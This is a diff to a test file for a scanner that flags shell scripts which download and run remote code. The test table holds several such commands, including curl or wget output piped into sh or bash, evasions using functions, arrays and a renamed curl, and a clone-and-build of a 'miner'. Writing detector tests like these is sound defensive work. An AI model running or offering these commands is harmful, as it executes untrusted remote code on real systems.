@@ -38,6 +38,9 @@ describe('download-and-run finds at start', () => {
     ['tarball', `curl -sL ${URL}.tar.gz | tar xz -C /tmp/w\ncd /tmp/w\n/tmp/w/run`],
     ['git clone and make', 'git clone https://git.example/miner.git /tmp/m && cd /tmp/m && make -j4 && ./m'],
     ['a function', `get() { curl -s ${URL}; }\nwhile true; do curl -s ${URL} | sh; sleep 60; done`],
+    ['a function with arguments', `go() { "$1" -s "$2" | "$3"; }\ngo curl ${URL} bash`],
+    ['a function that runs what it gets', `run() { "$@"; }\nrun wget -O /tmp/x ${URL}\nrun sh /tmp/x`],
+    ['an array', `a=(curl -s ${URL})\n"\${a[@]}" | sh`],
     ['renamed curl', `cp /usr/bin/curl /tmp/c\n/tmp/c -s ${URL} | sh`],
   ])('%s', (_name, script) => {
     const [finding] = find(`#!/bin/sh\n${script}\n`);
